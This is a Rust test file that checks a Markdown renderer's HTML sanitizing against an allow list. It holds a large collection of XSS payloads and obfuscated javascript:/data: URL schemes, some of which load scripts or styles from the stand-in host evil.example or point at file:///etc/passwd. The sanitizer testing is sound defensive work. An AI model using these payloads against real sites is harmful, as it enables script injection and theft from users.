//! A13: texts that want to run something. Whatever is written, what is shown holds tags, attributes and schemes of a short list,
//! and a browser that reads it anew reads the same.

use std::collections::BTreeSet;

use app::markdown::Renderer;
use scraper::{Html, Node};

/// Tags with their attributes.
const LISTED: &[(&str, &[&str])] = &[
    ("a", &["href", "title", "rel"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &[]),
    ("del", &[]),
    ("em", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("li", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &[]),
    ("strong", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &[]),
    ("th", &[]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

/// HTML that runs, fetches, covers or names something, in ways that got past others.
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>import('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src='x' onerror='alert(1)' x",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"//evil.example/p.gif 1x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<html><head><title>x</title></head><body onpageshow=alert(1)></body></html>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=//evil.example>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=\"data:text/html,x\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/p)}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<p style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</p>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1) style=x id=x name=x class=x>x</a>",
    "<a href=\"https://ok.example\" target=_blank ping=//evil.example>x</a>",
    "<a\u{0}href=javascript:alert(1)>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=//evil.example>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen onfocus=alert(1) autofocus>",
    "<bgsound src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><script>alert(1)</script>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<table><td onmouseover=alert(1)>x",
    "<li style=list-style:url() onerror=alert(1)>",
    "<ol start=\"1\" onclick=alert(1)><li value=javascript:alert(1)>x</ol>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]><p>&x;</p>",
    "<%<script>alert(1)</script>%>",
    "</p onmouseover=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<a href=\"https://ok.example/\u{202e}gpj.exe\">x</a>",
    "<p id=__proto__ name=cookie>x</p>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<portal src=//evil.example></portal>",
    "<dialog open onclose=alert(1)><form method=dialog></form></dialog>",
];

/// Where a link would lead.
const SCHEMES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://ok.example/%0aalert(1)",
    "https:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://ok.example/x",
    "filesystem:https://ok.example/x",
    "view-source:https://ok.example",
    "about:blank",
    "jar:https://ok.example!/x",
    "feed:javascript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "ftp://ok.example/x",
    "tel:+49123",
    "intent://ok.example#Intent;scheme=javascript;end",
    "ms-office:ofe|u|https://evil.example/x",
    "x-apple.systempreferences:",
    "\u{a0}javascript:alert(1)",
];

/// Each text in the places where Markdown treats it in ways of its own.
fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for html in HTML {
        all.push((*html).to_owned());
        all.push(format!("Before {html} *behind*"));
        all.push(format!("> - 1. {html}\n\n| a |\n|---|\n| {html} |"));
        all.push(format!("[x](https://ok.example \"{}\")", html.replace('"', "\\\"")));
        all.push(format!("# {html}\n\n```{html}\n{html}\n```\n\n`{html}`"));
    }
    for scheme in SCHEMES {
        all.push(format!("[x]({scheme})"));
        all.push(format!("[x](<{scheme}> 'title\" onclick=\"alert(1)')"));
        all.push(format!("![x]({scheme})"));
        all.push(format!("<{scheme}>"));
        all.push(format!("[x][y]\n\n[y]: {scheme} \"t\""));
        all.push(format!("[![x]({scheme})]({scheme})"));
    }
    for odd in [
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
        "[x](https://ok.example/'><script>alert(1)</script>)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](\\\\evil.example)",
        "[x](#__proto__)",
        "[x](mailto:a@b.example?body=<script>)",
        "![x](https://tracker.example/p.gif)",
        "![<script>alert(1)</script>](https://tracker.example)",
        "[<img src=x onerror=alert(1)>](https://ok.example)",
        "[a]: javascript:alert(1)\n[a]",
        "~~<del onclick=alert(1)>~~",
        "1) x\n999999999) <script>alert(1)</script>",
        "| <svg onload=alert(1)> |\n|:-:|\n| x |",
        "# x {#id .class onclick=alert(1)}",
        "x[^1]\n\n[^1]: <script>alert(1)</script>",
        "- [x] <input onfocus=alert(1)>",
        "$$\\href{javascript:alert(1)}{x}$$",
        "<p>\n\n<script>\n\nalert(1)\n\n</script>",
        "\\<script>alert(1)\\</script>",
        "a\u{0}b<\u{0}script>alert(1)</script>",
    ] {
        all.push(odd.to_owned());
    }
    all
}

/// What is not on the list in a piece of HTML.
fn unlisted(html: &str) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    let tree = Html::parse_fragment(html);
    for node in tree.tree.root().descendants().skip(1) {
        match node.value() {
            Node::Element(element) => {
                // What the parser puts around a fragment.
                let Some((_, listed)) = LISTED.iter().find(|(name, _)| *name == element.name()) else {
                    if element.name() != "html" {
                        found.insert(format!("<{}>", element.name()));
                    }
                    continue;
                };
                for (name, value) in element.attrs() {
                    if !listed.contains(&name) {
                        found.insert(format!("{}@{name}", element.name()));
                    }
                    if name == "href" {
                        found.extend(leads_elsewhere(value));
                    }
                }
                if element.name() == "a" && element.attr("href").is_some() {
                    let rel = element.attr("rel").unwrap_or_default();
                    if rel != "noopener noreferrer nofollow" {
                        found.insert(format!("a@rel={rel}"));
                    }
                }
            }
            Node::Text(_) | Node::Fragment => {}
            other => {
                found.insert(format!("{other:?}"));
            }
        }
    }
    found
}

/// What is wrong with where a link leads, as a browser reads it: white space around and control characters within are dropped.
fn leads_elsewhere(href: &str) -> Option<String> {
    let plain: String = href.chars().filter(|c| !c.is_control()).collect();
    let plain = plain.trim().to_ascii_lowercase();
    let scheme =
        plain.split(['/', '?', '#']).next().and_then(|begin| begin.split_once(':')).map(|(scheme, _)| scheme);
    // What cannot be a scheme is a part of a path: the link stays on the site.
    let can_be = |scheme: &&str| {
        scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'))
    };
    match scheme.filter(can_be) {
        None | Some("http" | "https" | "mailto") => None,
        Some(other) => Some(format!("href to {other}")),
    }
}

#[test]
fn nothing_gets_through_but_what_is_listed() {
    let renderer = Renderer::default();
    let payloads = payloads();
    assert!(payloads.len() > 600, "{}", payloads.len());
    for payload in payloads {
        let html = renderer.render(&payload);
        assert_eq!(unlisted(&html), BTreeSet::new(), "{payload:?} gave {html}");
        // What a browser makes of it and writes down again is as harmless, so that no copy of it wakes anything.
        let again = Html::parse_fragment(&html).root_element().inner_html();
        assert_eq!(unlisted(&again), BTreeSet::new(), "{payload:?} gave {html}, and read anew {again}");
    }
}

#[test]
fn the_judge_sees_what_is_not_listed() {
    for (html, expected) in [
        ("<script>x</script>", "<script>"),
        ("<p onclick=x>x</p>", "p@onclick"),
        ("<a href=\"java\nscript:x\" rel=\"noopener noreferrer nofollow\">x</a>", "href to javascript"),
        ("<a href=\"https://ok.example\">x</a>", "a@rel="),
        ("<!-- x -->", "Comment"),
        ("<svg><a>x</a></svg>", "<svg>"),
    ] {
        let found = unlisted(html);
        assert!(found.iter().any(|one| one.contains(expected)), "{html}: {found:?}");
    }
    assert_eq!(
        unlisted("<p>a <a href=\"/x\" rel=\"noopener noreferrer nofollow\">b</a></p>"),
        BTreeSet::new()
    );
}
